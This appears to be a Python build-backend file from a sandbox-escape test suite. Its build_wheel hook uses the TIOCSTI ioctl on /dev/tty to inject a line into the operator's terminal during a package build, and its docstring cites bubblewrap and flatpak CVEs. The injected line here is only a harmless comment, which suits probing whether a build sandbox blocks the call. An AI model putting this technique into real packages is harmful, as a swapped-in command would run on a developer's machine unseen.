"""Pushes a line into the input of the controlling terminal, character by character.

When the build has ended, the shell reads the line as if the operator had typed it.
bubblewrap let it happen (CVE-2017-5226), and flatpak's filter of the call could be passed
by (CVE-2019-10063).
"""

import fcntl
import termios

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("type"):
        with open("/dev/tty", "rb", buffering=0) as terminal:
            for character in f"# exhibit {kit.nonce}\n".encode():
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
    return kit.wheel(wheel_directory)
